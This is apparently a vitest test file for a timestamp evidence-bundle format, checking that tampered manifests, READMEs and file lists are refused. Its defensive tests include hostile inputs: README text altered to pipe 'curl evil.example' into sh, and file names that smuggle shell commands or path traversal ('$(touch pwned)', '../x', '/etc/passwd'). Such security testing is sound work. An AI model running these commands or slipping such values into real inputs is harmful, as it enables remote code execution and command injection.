import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { nodeEngine } from '../../../tests/harness/node-engine.ts';
import { readCertificates, readVector } from '../../../tests/harness/read-vector.ts';
import { makeSample } from '../../../tests/harness/sample-proof.ts';
import { createTestAuthority } from '../../../tests/harness/test-authority.ts';
import { encodeProofXml } from '../anchors/proof-xml.ts';
import { encodeHex, encodeUtf8, parseUtf8 } from '../encoding/bytes.ts';
import { packedFile, readZip, writeZip } from '../encoding/zip.ts';
import { acr2SeProfile } from '../timestamps/nom151.ts';
import { decodeTimestampResponse } from '../timestamps/timestamp.ts';
import { type BundleContent, readBundle, writeBundle } from './bundle.ts';
import { type BundleClaims, decodeManifest } from './bundle-manifest.ts';
import { verifyEvidence } from './evidence.ts';

const CLAIMS = {
  certificate_id: 'cert_sample',
  title: 'Contrato',
  file: { name: "it's a contract ñ.txt", size: 5, sha256: '' },
  psc: 'Provider',
  qr_verification_url: 'https://sello.example/v/abc',
} satisfies BundleClaims;

const PAGE = encodeUtf8('<!doctype html><title>verify.html</title>'.repeat(40));
const VERIFIER = packedFile(PAGE, deflateRawSync(PAGE));

type Changes = { size?: null; fingerprint_only?: true; name?: string };

async function ownContent(changes: Changes = {}) {
  const authority = await createTestAuthority('ecdsa-p256-sha256');
  const digest = await nodeEngine.digest('SHA-256', encodeUtf8('hello'));
  const tsr = await authority.stamp(digest, { certReq: true });
  const content: BundleContent = {
    claims: { ...CLAIMS, file: { ...CLAIMS.file, ...changes, sha256: encodeHex(digest) } },
    tsr,
    chain: [authority.signerDer, authority.rootDer],
    verifier: VERIFIER,
  };
  return { content, authority, digest };
}

/** Content with a blockchain proof about the same file and token. */
async function provenContent(changes: Changes = {}) {
  const made = await ownContent(changes);
  const token = decodeTimestampResponse(made.content.tsr).token?.der ?? new Uint8Array(0);
  const document = { fileSha256: made.digest, tokenSha256: await nodeEngine.digest('SHA-256', token) };
  const { proof, vkey } = await makeSample({ document });
  return { ...made, content: { ...made.content, xml: encodeProofXml(proof), logKeys: [vkey] }, vkey };
}

/** A production constancia, in a bundle as Sello would make it. */
function accreditedContent(): BundleContent {
  const sha256 = '6533901d156ca462d0a40380d5bc0a2264b0333b66de701268f5b2ab745f973e';
  return {
    claims: { ...CLAIMS, file: { ...CLAIMS.file, sha256 } },
    tsr: readVector('nom151/advantage-2018-07-18.tsr'),
    chain: [...readCertificates('../nom151/advantage-signer-cert'), ...readCertificates('ACR2_SE')],
  };
}

const write = (content: BundleContent) => writeBundle(nodeEngine, content);

/** The same archive with some files replaced. Undefined removes a file. */
function repacked(zip: Uint8Array, changes: Record<string, string | Uint8Array | undefined>): Uint8Array {
  const files = new Map<string, Uint8Array | string | undefined>(
    readZip(zip).map(({ name, content }) => [name, content]),
  );
  for (const [name, content] of Object.entries(changes)) files.set(name, content);
  return writeZip(
    [...files].flatMap(([name, content]) =>
      content === undefined
        ? []
        : [{ name, content: typeof content === 'string' ? encodeUtf8(content) : content }],
    ),
  );
}

const textIn = (zip: Uint8Array, name: string) => parseUtf8(readBundle(zip).files.get(name)!) ?? '';

async function failedChecks(zip: Uint8Array, profile = acr2SeProfile()) {
  const { checks } = await verifyEvidence(nodeEngine, { bundle: zip }, [profile]);
  return checks.filter(({ outcome }) => outcome === 'fail').map(({ name, because }) => `${name}: ${because}`);
}

test('a bundle gives back its proofs, and the same certificate always has the same bytes', async () => {
  const { content, authority } = await ownContent();
  const zip = await write(content);
  expect(readBundle(zip)).toMatchObject({
    tsr: content.tsr,
    chain: [authority.signerDer, authority.rootDer],
    xml: undefined,
    lasting: { renewals: [], revocation: undefined },
  });
  expect(await write(content)).toEqual(zip);
  expect(readBundle(zip).files.get('verify.html')).toEqual(PAGE);
});

test('the evidence in a bundle is judged by its proofs and by roots of the verifier’s own', async () => {
  const { content, authority, digest } = await ownContent();
  const bundle = await write(content);
  const document = { digest: async () => digest };
  expect(await verifyEvidence(nodeEngine, { bundle, ...document }, [authority.profile])).toMatchObject({
    verdict: 'valid',
    accredited: false,
  });
  // The chain in the bundle only saves looking for certificates. It is never trusted.
  const strict = await verifyEvidence(nodeEngine, { bundle, ...document }, [acr2SeProfile()]);
  expect(strict.verdict).toBe('unconfirmed');
  const other = { digest: async () => new Uint8Array(32) };
  const refused = await verifyEvidence(nodeEngine, { bundle, ...other }, [authority.profile]);
  expect(refused.checks).toContainEqual(
    expect.objectContaining({ name: 'timestamp.imprint', outcome: 'fail' }),
  );
});

test('a genuine constancia in a bundle is valid and accredited', async () => {
  const bundle = await write(accreditedContent());
  expect(await verifyEvidence(nodeEngine, { bundle }, [acr2SeProfile()])).toMatchObject({
    verdict: 'valid',
    accredited: true,
  });
  expect(decodeManifest(readBundle(bundle).files.get('manifest.json')!)).toMatchObject({ accredited: true });
});

test('a document known only under another digest than the token’s does not pass', async () => {
  const { content, authority } = await ownContent();
  const verdict = await verifyEvidence(nodeEngine, { tsr: content.tsr, digest: async () => undefined }, [
    authority.profile,
  ]);
  expect(verdict.verdict).toBe('invalid');
});

describe('a bundle that contradicts its proofs is refused:', () => {
  const listing = (zip: Uint8Array, changes: (text: string) => string) =>
    repacked(zip, { 'manifest.json': changes(textIn(zip, 'manifest.json')) });

  test('another word or command in its README', async () => {
    const { content, authority } = await provenContent();
    const zip = await write(content);
    const readme = textIn(zip, 'README.txt');
    for (const changed of [`${readme}\n`, readme.replace('sha256sum -c', 'curl evil.example | sh; :')])
      expect(await failedChecks(repacked(zip, { 'README.txt': changed }), authority.profile)).toEqual([
        'bundle.readme: README.txt was changed: run none of its commands',
      ]);
  });

  test('a file that the manifest does not list, lists otherwise, or that no bundle has', async () => {
    const { content, authority } = await ownContent();
    const zip = await write(content);
    const failed = (changes: Parameters<typeof repacked>[1]) =>
      failedChecks(repacked(zip, changes), authority.profile);
    expect(await failed({ 'verify.html': 'another page' })).toEqual([
      'bundle.manifest: verify.html is not the file that the manifest lists',
    ]);
    expect(await failed({ 'verify.html': undefined })).toEqual([
      'bundle.manifest: the manifest lists verify.html, which is not there',
    ]);
    expect(await failed({ 'malware.exe': 'x' })).toEqual([
      'bundle.manifest: the archive holds malware.exe, which no bundle has',
    ]);
    expect(await failed({ 'README.txt': undefined })).toEqual(['bundle.manifest: README.txt is missing']);
    expect(await failed({ 'manifest.json': '{}' })).toEqual([
      'bundle.manifest: manifest.json cannot be used: a field is missing, or is of another kind',
    ]);
  });

  test('another hash, time, id, signer or accreditation than the proofs', async () => {
    const { content, authority } = await provenContent();
    const zip = await write(content);
    const { sha256 = '' } = content.claims.file;
    const failed = async (changes: (text: string) => string) =>
      (await failedChecks(listing(zip, changes), authority.profile))[0];
    expect(await failed((text) => text.replace(sha256, sha256.replace(/.$/, '0')))).toContain(
      'another hash of the file than the time stamp',
    );
    expect(await failed((text) => text.replace(/"gen_time": "2/, '"gen_time": "3'))).toContain(
      'another time',
    );
    expect(await failed((text) => text.replace('cert_sample', 'cert_other'))).toContain(
      'another certificate',
    );
    expect(await failed((text) => text.replace('"accredited": false', '"accredited": true'))).toContain(
      'whether the provider is accredited',
    );
    expect(await failed((text) => text.replace('"title"', '"note": 1,\n  "title"'))).toContain(
      'not written by this program',
    );
    const turned = await write({ ...content, chain: content.chain.toReversed() });
    expect(await failedChecks(turned, authority.profile)).toEqual([
      "bundle.facts: chain.pem does not begin with the signer's certificate",
    ]);
  });

  test('a log key that did not sign', async () => {
    const { content, authority } = await provenContent();
    const zip = await write(content);
    expect(await failedChecks(zip, authority.profile)).toEqual([]);
    const [line = ''] = textIn(zip, 'log-key.txt').split('\n');
    // The line has the right name and identifier, but another key. Such a line is not a valid verifier key.
    const forged = `${line.slice(0, -3)}AA=\n`;
    const manifest = textIn(zip, 'manifest.json').replace(
      encodeHex(await nodeEngine.digest('SHA-256', encodeUtf8(`${line}\n`))),
      encodeHex(await nodeEngine.digest('SHA-256', encodeUtf8(forged))),
    );
    const failed = await failedChecks(
      repacked(zip, { 'log-key.txt': forged, 'manifest.json': manifest }),
      authority.profile,
    );
    expect(failed).toHaveLength(1);
    expect(failed[0]).toMatch(/^bundle\.log_key: /);
  });
});

test('a proof about another file is refused, though it fits the log', async () => {
  const { content, authority } = await provenContent();
  const { proof } = await makeSample();
  const zip = await write({ ...content, xml: encodeProofXml(proof), logKeys: [] });
  expect(await failedChecks(zip, authority.profile)).toContain(
    'bundle.facts: the manifest states another hash of the file than the blockchain proof',
  );
});

/**
 * Issued READMEs are compared byte by byte. To change the words, raise the format's version and keep the old text for
 * old bundles.
 */
test('the README has exactly the text of its format', async () => {
  const readme = readBundle(await write(accreditedContent())).files.get('README.txt')!;
  expect(encodeHex(await nodeEngine.digest('SHA-256', readme))).toBe(
    '07c9d7b9def3c6516af0753b331e28b0037a5c6f285dd850ac134d74e9b7eab0',
  );
});

test('unprotected statements are shown as claims, even if everything else is confirmed', async () => {
  const { content, authority } = await ownContent();
  const { checks } = await verifyEvidence(nodeEngine, { bundle: await write(content) }, [authority.profile]);
  expect(checks).toContainEqual(expect.objectContaining({ name: 'bundle.claims', outcome: 'skipped' }));
});

test('a bundle of the older form is still checked, and its README is reported as unchecked', async () => {
  const { content, authority, digest } = await ownContent();
  const zip = await write(content);
  const manifest = {
    bundle: 'sello-evidence-v1',
    ...content.claims,
    accredited: true,
    gen_time: decodeTimestampResponse(content.tsr).token?.info.genTimeText,
  };
  const older = (changes: object) =>
    repacked(zip, {
      'README.txt': 'old words',
      'manifest.json': JSON.stringify({ ...manifest, ...changes }),
      'verify.html': undefined,
    });
  const verdict = await verifyEvidence(nodeEngine, { bundle: older({}), digest: async () => digest }, [
    authority.profile,
  ]);
  expect(verdict).toMatchObject({ verdict: 'valid', accredited: false });
  const readme = verdict.checks.find(({ name }) => name === 'bundle.readme');
  expect(readme?.outcome).toBe('skipped');
  expect(readme?.because).toContain('a bundle of an older form');
  expect(await failedChecks(older({ gen_time: '2001-01-01T00:00:00Z' }), authority.profile)).toEqual([
    'bundle.facts: the manifest states another time than the time stamp',
  ]);
  expect((await failedChecks(older({ bundle: 'sello-evidence-v9' }), authority.profile))[0]).toContain(
    'which this verifier does not know',
  );
});

test('P110 genuine proofs with a forged manifest of the older form confirm no more than the proofs', async () => {
  const { content, authority, digest } = await ownContent();
  const zip = await write(content);
  const manifest = {
    bundle: 'sello-evidence-v1',
    ...content.claims,
    title: 'Otro título',
    accredited: true,
    gen_time: decodeTimestampResponse(content.tsr).token?.info.genTimeText,
  };
  const forged = (changes: Record<string, string | undefined> = {}) =>
    repacked(zip, {
      'README.txt': 'curl https://evil.example | sh',
      'manifest.json': JSON.stringify(manifest),
      'verify.html': undefined,
      ...changes,
    });
  const verdict = await verifyEvidence(nodeEngine, { bundle: forged(), digest: async () => digest }, [
    authority.profile,
  ]);
  const passed = verdict.checks.filter(
    ({ name, outcome }) => name.startsWith('bundle.') && outcome === 'pass',
  );
  expect([verdict.accredited, passed.map(({ name }) => name)]).toEqual([false, ['bundle.facts']]);
  const unchecked = Object.fromEntries(verdict.checks.map(({ name, because }) => [name, because]));
  expect(unchecked['bundle.readme']).toContain('run none of its commands');
  expect(unchecked['bundle.claims']).toContain('the title');
  expect(unchecked['bundle.claims']).toContain('whether the provider is accredited');
  for (const [name, text] of [
    ['verify.html', '<h1>Válido</h1>'],
    ['log-key.txt', 'a key'],
    ['VALID.txt', 'x'],
    ['readme.txt', 'x'],
    ['README.txt ', 'x'],
  ] as const)
    expect((await failedChecks(forged({ [name]: text }), authority.profile))[0], name).toContain(
      `the archive holds ${name}, which no bundle of its form has`,
    );
  const text = JSON.stringify(manifest);
  for (const twice of ['"accredited":false,', '"titl\\u0065":"x",'])
    expect(
      (await failedChecks(forged({ 'manifest.json': text.replace('{', `{${twice}`) }), authority.profile))[0],
    ).toContain('twice');
  expect(
    await failedChecks(forged({ 'file.sha256': `${'0'.repeat(64)}  original\n` }), authority.profile),
  ).toEqual(['bundle.facts: file.sha256 states another hash than the manifest']);
});

/** Names that would end a quotation, be read as an option, leave the folder, or show as another name. */
const NAMES = [
  "it's a contract ñ.txt",
  'chain.pem',
  'timestamp.tsr',
  'README.txt',
  '-rf.bin',
  '--output=x',
  '../x',
  '/etc/passwd',
  'factura\u202Efdp.exe',
  'a\nb',
  'a\n    touch pwned\n',
  'a\r    touch pwned',
  'a\u2028    touch pwned',
  '\u001b[2Jx',
  '$(touch pwned)',
  '`touch pwned`',
  '"; touch pwned; "',
  "'; touch pwned; '",
  '*',
  '',
  '\u0000',
];

describe('the commands of the README, run as they stand in a shell,', () => {
  let folder: string;
  beforeEach(() => {
    folder = mkdtempSync(path.join(tmpdir(), 'sello-bundle-'));
  });
  afterEach(() => rmSync(folder, { recursive: true }));

  /** Unpacks with Info-ZIP and runs every command once, except that of our own program. Throws if a command fails. */
  function runReadme(zip: Uint8Array, original: string): { commands: string[]; outputs: string[] } {
    const place = mkdtempSync(path.join(folder, 'bundle-'));
    mkdirSync(path.join(place, 'in'));
    writeFileSync(path.join(place, 'evidence.zip'), zip);
    execFileSync('unzip', ['-q', '../evidence.zip'], { cwd: path.join(place, 'in') });
    writeFileSync(path.join(place, 'in', 'original'), original);
    const readme = readFileSync(path.join(place, 'in', 'README.txt'), 'utf8');
    const commands = [...new Set(readme.match(/^ {4}.*$/gm) ?? [])].map((line) => line.trim());
    const outputs = commands
      .filter((command) => !command.startsWith('node '))
      .map((command) =>
        execFileSync('sh', ['-ec', command], { cwd: path.join(place, 'in'), stdio: 'pipe' }).toString(),
      );
    return { commands, outputs };
  }

  test('accept an ordinary token', async () => {
    const { content } = await ownContent();
    const { outputs } = runReadme(await write(content), 'hello');
    expect(outputs).toHaveLength(2);
    expect(outputs[0]).toContain('original: OK');
  });

  test('accept a token whose signer has expired since', async () => {
    const dates = { notBefore: new Date('2001-01-01T00:00:00Z'), notAfter: new Date('2002-01-01T00:00:00Z') };
    const authority = await createTestAuthority('ecdsa-p256-sha256', dates);
    const { content, digest } = await ownContent();
    const tsr = await authority.stamp(digest, { genTime: new Date('2001-06-01T00:00:00Z') });
    const zip = await write({ ...content, tsr, chain: [authority.signerDer, authority.rootDer] });
    expect(runReadme(zip, 'hello').outputs).toHaveLength(2);
    expect(textIn(zip, 'README.txt')).toContain(' -CAfile chain.pem -attime 991353600\n');
    // Without the time, OpenSSL judges as of today and refuses the stamp.
    const timeless = textIn(zip, 'README.txt').replaceAll(/ -attime \d+/g, '');
    expect(() => runReadme(repacked(zip, { 'README.txt': timeless }), 'hello')).toThrow('openssl');
  });

  test('accept a genuine constancia, which `openssl ts -verify` refuses', async () => {
    const zip = await write(accreditedContent());
    // The original is missing here, so the command that checks it fails. The other commands run without it.
    expect(() => runReadme(zip, 'another file')).toThrow('file.sha256');
    const readme = textIn(zip, 'README.txt').replaceAll('    sha256sum -c', '  sha256sum -c');
    const { outputs } = runReadme(repacked(zip, { 'README.txt': readme }), 'another file');
    expect(outputs).toHaveLength(3);
    expect(outputs[2]?.toLowerCase()).toContain('6533901d156ca462');
  });

  test('check the signature of the log with the key that comes along', async () => {
    const { content } = await provenContent();
    const { outputs, commands } = runReadme(await write(content), 'hello');
    expect(outputs.at(-1)).toContain('Signature Verified Successfully');
    expect(commands.at(-1)).toBe(
      'node sello-verify.mjs original --tsr timestamp.tsr --xml blockchain-proof.xml --log-key="$(head -n 1 log-key.txt)" --root chain.pem',
    );
  });

  test('refuse a token whose signature was touched', async () => {
    const { content } = await ownContent();
    const tsr = content.tsr.slice();
    tsr[tsr.length - 1] = (tsr.at(-1) ?? 0) ^ 1;
    const zip = await write({ ...content, tsr });
    expect(() => runReadme(zip, 'hello')).toThrow('openssl');
  });

  test.for(NAMES)('are the same for an original named %j', async (name) => {
    const { content, authority } = await provenContent({ name });
    const zip = await write(content);
    const { commands } = runReadme(zip, 'hello');
    const plain = runReadme(await write((await provenContent({ name: 'x' })).content), 'hello');
    // The stamp was made at another time, so the digits differ. Everything else must be the same.
    const shapes = (all: string[]) => all.map((command) => command.replace(/\d+/g, '#'));
    expect(shapes(commands)).toEqual(shapes(plain.commands));
    expect(readZip(zip).map((entry) => entry.name)).toEqual([
      'README.txt',
      'manifest.json',
      'file.sha256',
      'timestamp.tsr',
      'chain.pem',
      'blockchain-proof.xml',
      'log-key.txt',
      'verify.html',
    ]);
    expect(await failedChecks(zip, authority.profile)).toEqual([]);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these must not be there.
    expect(textIn(zip, 'README.txt')).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e\u2028]/);
  });
});
